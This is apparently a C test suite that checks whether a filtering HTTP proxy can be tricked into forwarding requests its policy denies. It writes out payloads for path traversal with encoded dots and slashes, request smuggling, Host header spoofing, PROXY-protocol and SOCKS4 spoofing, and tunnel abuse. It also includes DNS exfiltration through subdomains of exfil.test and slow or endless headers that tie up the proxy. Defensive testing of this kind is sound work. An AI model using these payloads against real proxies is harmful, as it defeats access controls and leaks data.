/*
 * Requests that the policy does not allow, written so that a proxy may take them for others. The policy has
 * allowed.test:8080 with GET /public/ ** and POST /public/submit, enforced; allowed.test:8081 as a tunnel.
 */
#include <errno.h>
#include <netdb.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "proxied.h"

enum {
	ROOM = 4096,
	PAUSE_MS = 1500, /* longer than a proxy waits for a protocol to show */
	SLOW_MS = 13000, /* a head has 10 s (contract 6.1; proxy.h) */
	PATIENCE_MS = 3000,
	ENDLESS = 1 << 20,
};

/* Adds text that fits. */
static size_t add(char *to, size_t n, const char *text, size_t size)
{
	must(n + size < ROOM);
	memcpy(to + n, text, size);
	return n + size;
}

static size_t add_smuggled(char *to, size_t n, const char *token)
{
	char text[SMUGGLED_SIZE + 1];
	int used = snprintf(text, sizeof text,
			    "GET /admin/%s HTTP/1.1\r\nHost: allowed.test:8080\r\nX: ", token);

	must(used > 0 && used + 4 < SMUGGLED_SIZE);
	memset(text + used, 'x', (size_t)(SMUGGLED_SIZE - used));
	memcpy(text + SMUGGLED_SIZE - 4, "\r\n\r\n", 4);
	return add(to, n, text, SMUGGLED_SIZE);
}

static size_t add_proxy(char *to, size_t n)
{
	struct sockaddr_storage at;
	socklen_t size;
	char host[64] = "", port[8] = "", text[80];

	if (proxy_address(&at, &size))
		getnameinfo((struct sockaddr *)&at, size, host, sizeof host, port, sizeof port,
			    NI_NUMERICHOST | NI_NUMERICSERV);
	int used = snprintf(text, sizeof text, "%s:%s", host, port);
	return add(to, n, text, (size_t)used);
}

/* What is sent in one go: up to the next place where an answer or a while is waited for. */
static size_t expand(const char **text, const char *token, char *to)
{
	size_t n = 0;

	for (; **text && **text != ANSWER[0] && **text != PAUSE[0]; (*text)++)
		switch ((unsigned char)**text) {
		case 0xf0:
			n = add(to, n, token, strlen(token));
			break;
		case 0xf3:
			n = add(to, n, "", 1);
			break;
		case 0xf4:
			n = add_proxy(to, n);
			break;
		case 0xf5:
			n = add_smuggled(to, n, token);
			break;
		default:
			n = add(to, n, *text, 1);
		}
	return n;
}

/* Reads an answer; the last one is kept for the note. */
static bool hear(int fd, char *last)
{
	char text[ROOM];
	size_t n = read_answer(fd, text, sizeof text);

	if (n > 0)
		memcpy(last, text, n + 1);
	return n > 0;
}

enum result ask_proxy(const struct attempt *a)
{
	const char *text = a->with;
	char part[ROOM], answer[ROOM] = "";
	_cleanup_close_ int fd = tcp_to_proxy();

	if (fd < 0) {
		note("no proxy: %s", strerror(errno));
		return BROKEN;
	}
	while (*text) {
		size_t n = expand(&text, token_of(a), part);

		if (n > 0 && !send_all(fd, part, n))
			break;
		if (*text == PAUSE[0])
			poll(NULL, 0, PAUSE_MS);
		if (*text == ANSWER[0] && !hear(fd, answer))
			break;
		if (*text)
			text++;
	}
	if (!*text)
		hear(fd, answer);
	note("%.150s", answer[0] ? answer : "no answer");
	return SENT;
}

/* ---- heads that take long, or much ---- */

/* A byte a second, or none: GOT when the proxy still waits in the end. */
static enum result slow_head(const struct attempt *a)
{
	const bool drips = a->with != NULL;
	char answer[512];
	_cleanup_close_ int fd = tcp_to_proxy();

	if (fd < 0)
		return BROKEN;
	for (int64_t end = mono_ms() + SLOW_MS; mono_ms() < end;) {
		struct pollfd p = {.fd = fd, .events = POLLIN};

		if (poll(&p, 1, 1000) == 1) {
			read_answer(fd, answer, sizeof answer);
			note("ended with: %.60s", answer);
			return REFUSED;
		}
		if (drips && !send_all(fd, "G", 1))
			return no("send");
	}
	note("the proxy waited for %d s", SLOW_MS / 1000);
	return GOT;
}

/* More than a head may have, by lines or by one line; the other side tells whether it arrived. */
static enum result huge_head(const struct attempt *a)
{
	const size_t line = *(const size_t *)a->with;
	char answer[512], filler[1024];
	size_t sent = 0;
	_cleanup_close_ int fd = tcp_to_proxy();

	if (fd < 0)
		return BROKEN;
	dprintf(fd, HEAD("GET http://allowed.test:8080/public/%s", "allowed.test:8080"),
		token_of(a));
	memset(filler, 'x', sizeof filler);
	while (sent < 64u << 10) {
		dprintf(fd, "X: ");
		for (size_t n = 0; n < line; n += sizeof filler)
			if (!send_all(fd, filler, MIN(sizeof filler, line - n)))
				return no("send");
		send_all(fd, "\r\n", 2);
		sent += line;
	}
	send_all(fd, "\r\n", 2);
	read_answer(fd, answer, sizeof answer);
	note("%.60s", answer[0] ? answer : "no answer");
	return SENT;
}

/* A head that never ends: GOT when the proxy has taken a megabyte of it. */
static enum result endless_head(const struct attempt *a UNUSED)
{
	static char filler[1 << 16];
	struct pollfd p = {.events = POLLIN};
	_cleanup_close_ int fd = tcp_to_proxy();

	if (fd < 0)
		return BROKEN;
	memset(filler, 'x', sizeof filler);
	for (size_t sent = 0; sent < ENDLESS; sent += sizeof filler)
		if (!send_all(fd, filler, sizeof filler))
			return no("send");
	p.fd = fd;
	if (poll(&p, 1, PATIENCE_MS) == 1) {
		note("the proxy has answered, or hung up");
		return REFUSED;
	}
	note("the proxy took a megabyte and waits for more");
	return GOT;
}

#define REST "http://allowed.test:8080"
#define PATH(p) GET(REST p, "allowed.test:8080")
#define METHOD(m) HEAD(m " " REST "/public/" TOKEN, "allowed.test:8080") "Content-Length: 0\r\n\r\n"
#define REST_TUNNEL HEAD("CONNECT allowed.test:8080", "allowed.test:8080") "\r\n" ANSWER
#define INSIDE(p, host) GET(p, host)

static const struct attempt requests[] = {
	/* what the policy does not allow, asked for plainly */
	ASK("denied-connect", "CONNECT to a host of no policy", TUNNEL("denied.test:80")),
	ASK("denied-port", "CONNECT to another port of an allowed host",
	    TUNNEL("allowed.test:8090")),
	ASK("denied-get", "GET from a host of no policy",
	    GET("http://denied.test:80/" TOKEN, "denied.test")),
	ASK("denied-path", "GET of a path that no rule allows", PATH("/admin/" TOKEN)),
	ASK("denied-method", "DELETE where GET is allowed", METHOD("DELETE")),
	ASK("denied-second", "GET of a denied path after an allowed one, on the same connection",
	    PATH("/public/first") ANSWER PATH("/admin/" TOKEN)),
	ASK("denied-pipelined", "both in one go", PATH("/public/first") PATH("/admin/" TOKEN)),
	ASK("dns-by-connect",
	    "have the proxy look up a name of no policy, in which bytes are hidden",
	    TUNNEL(TOKEN ".exfil.test:443")),
	ASK("dns-by-get", "the same by GET",
	    GET("http://" TOKEN ".exfil.test/", TOKEN ".exfil.test")),
	/* paths */
	ASK("path-dots", "climb by ../", PATH("/public/../admin/" TOKEN)),
	ASK("path-dots-encoded", "climb by %2e%2e/", PATH("/public/%2e%2e/admin/" TOKEN)),
	ASK("path-dots-half", "climb by .%2e/", PATH("/public/.%2e/admin/" TOKEN)),
	ASK("path-slash-encoded", "climb by ..%2f", PATH("/public/..%2fadmin/" TOKEN)),
	ASK("path-both-encoded", "climb by %2e%2e%2f", PATH("/public/%2e%2e%2fadmin/" TOKEN)),
	ASK("path-params", "climb by ..;/", PATH("/public/..;/admin/" TOKEN)),
	ASK("path-params-dots", "climb by ;x/../", PATH("/public;x/../admin/" TOKEN)),
	ASK("path-slashes", "climb by //../../", PATH("/public//../../admin/" TOKEN)),
	ASK("path-backslash", "climb by ..\\", PATH("/public/..\\admin/" TOKEN)),
	ASK("path-backslash-encoded", "climb by ..%5c", PATH("/public/..%5cadmin/" TOKEN)),
	ASK("path-above", "climb above the root", PATH("/../../admin/" TOKEN)),
	ASK("path-nul", "end the path by %00", PATH("/admin/" TOKEN "%00/public/")),
	ASK("path-fragment", "hide the path before a fragment",
	    PATH("/admin/" TOKEN "#/../public/")),
	ASK("path-query", "hide it before a query", PATH("/admin/" TOKEN "?/../public/x")),
	ASK("path-case", "write the path in capitals", PATH("/ADMIN/" TOKEN)),
	ASK("path-empty", "give no path", PATH("?" TOKEN)),
	/* methods */
	NEVER("method-case", "post in small letters", METHOD("delete")),
	ASK("method-trace", "TRACE, which sends back what a proxy adds", METHOD("TRACE")),
	NEVER("method-odd", "a method of one's own", METHOD("GETX")),
	NEVER("method-tab", "a method with a tab behind",
	      "GET\t" REST "/admin/" TOKEN "\tHTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n"),
	/* who is meant */
	NEVER("host-mismatch", "name a denied host in Host",
	      GET(REST "/public/" TOKEN, "secret.test")),
	NEVER("host-twice", "give two Hosts",
	      HEAD("GET " REST "/public/" TOKEN, "allowed.test:8080") "Host: secret.test\r\n\r\n"),
	NEVER("host-space", "give one with a blank before the colon",
	      HEAD("GET " REST "/public/" TOKEN, "allowed.test:8080") "Host : secret.test\r\n\r\n"),
	NEVER("host-folded", "give one in a folded line",
	      HEAD("GET " REST "/public/" TOKEN,
		   "allowed.test:8080") "X: y\r\n Host: secret.test\r\n\r\n"),
	ASK("host-in-tunnel", "name another host inside a tunnel",
	    REST_TUNNEL INSIDE("/public/" TOKEN, "secret.test")),
	NEVER("origin-form", "send no absolute form, as to a transparent proxy",
	      GET("/" TOKEN, "1.2.3.4:8090")),
	NEVER("scheme-https", "ask for https:// by GET",
	      GET("https://denied.test:80/" TOKEN, "denied.test")),
	NEVER("scheme-ftp", "ask for ftp://", GET("ftp://denied.test:80/" TOKEN, "denied.test")),
	NEVER("http-0.9", "ask as of old, without a version",
	      "GET " REST "/admin/" TOKEN "\r\n\r\n"),
	NEVER("http-2", "claim HTTP/2.0",
	      "GET " REST "/admin/" TOKEN " HTTP/2.0\r\nHost: allowed.test:8080\r\n\r\n"),
	NEVER("socks4", "speak SOCKS4",
	      "\x04\x01\x1f\x9a\x01\x02\x03\x04" NUL ANSWER "GET /" TOKEN
	      " HTTP/1.1\r\nHost: x\r\n\r\n"),
	NEVER("proxy-protocol", "pretend by the PROXY protocol to be somebody else",
	      "PROXY TCP4 10.200.0.1 10.200.0.1 1 3128\r\n" PATH("/admin/" TOKEN)),
	NEVER("to-itself", "CONNECT to the proxy itself, and ask it from there",
	      HEAD("CONNECT " PROXY_ITSELF, PROXY_ITSELF) "\r\n" ANSWER TUNNEL("1.2.3.4:8090")),
	NEVER("to-itself-get", "GET from the proxy itself",
	      GET("http://" PROXY_ITSELF "/" TOKEN, "1.2.3.4:8090")),
	/* tunnels to where requests are judged */
	ASK("tunnel-path", "GET a denied path inside a tunnel",
	    REST_TUNNEL INSIDE("/admin/" TOKEN, "allowed.test:8080")),
	ASK("tunnel-second", "the same as the second request",
	    REST_TUNNEL INSIDE("/public/first", "allowed.test:8080")
		    ANSWER INSIDE("/admin/" TOKEN, "allowed.test:8080")),
	ASK("tunnel-late", "the same after a silence",
	    REST_TUNNEL PAUSE INSIDE("/admin/" TOKEN, "allowed.test:8080")),
	ASK("tunnel-early", "the same without waiting for the answer",
	    HEAD("CONNECT allowed.test:8080",
		 "allowed.test:8080") "\r\n" INSIDE("/admin/" TOKEN, "allowed.test:8080")),
	ASK("tunnel-bytes", "send what is no HTTP", REST_TUNNEL "EHLO " TOKEN "\r\n"),
	ASK("tunnel-tls", "send TLS",
	    REST_TUNNEL "\x16\x03\x01" NUL "\x2f\x01" NUL NUL "\x2b\x03\x03" TOKEN),
	ASK("tunnel-h2", "send HTTP/2", REST_TUNNEL "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" TOKEN),
	ASK("tunnel-split", "begin with bytes that could still be anything",
	    REST_TUNNEL "G" PAUSE "XT /" TOKEN " HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n"),
	/* upgrades that are none */
	NEVER("upgrade-refused",
	      "go on freely after an upgrade to WebSocket that the server refuses",
	      HEAD("GET " REST "/public/ws",
		   "allowed.test:8080") "Connection: Upgrade\r\nUpgrade: "
					"websocket\r\nSec-WebSocket-Version: 99\r\n\r\n" ANSWER GET(
						"/admin/" TOKEN, "allowed.test:8080")),
	NEVER("upgrade-h2c", "upgrade to HTTP/2 without TLS",
	      HEAD("GET " REST "/public/h2c-" TOKEN,
		   "allowed.test:8080") "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: "
					"h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
	NEVER("upgrade-own", "upgrade to a protocol of one's own",
	      HEAD("GET " REST "/public/own-" TOKEN,
		   "allowed.test:8080") "Connection: Upgrade\r\nUpgrade: tunnel\r\n\r\n"),
	/* heads */
	{.name = "head-slow",
	 .what = "keep the proxy waiting, a byte a second",
	 .try = slow_head,
	 .with = "drip",
	 .slow = true},
	{.name = "head-silent",
	 .what = "keep it waiting for the first byte",
	 .try = slow_head,
	 .slow = true},
	{.name = "head-lines",
	 .what = "a head of 64 KiB",
	 .try = huge_head,
	 .with = &(const size_t){200}},
	{.name = "head-line",
	 .what = "a head line of 64 KiB",
	 .try = huge_head,
	 .with = &(const size_t){64 << 10}},
	{.name = "head-endless", .what = "a head without an end", .try = endless_head},
};
GROUP(group_requests, "Requests to the proxy", requests);
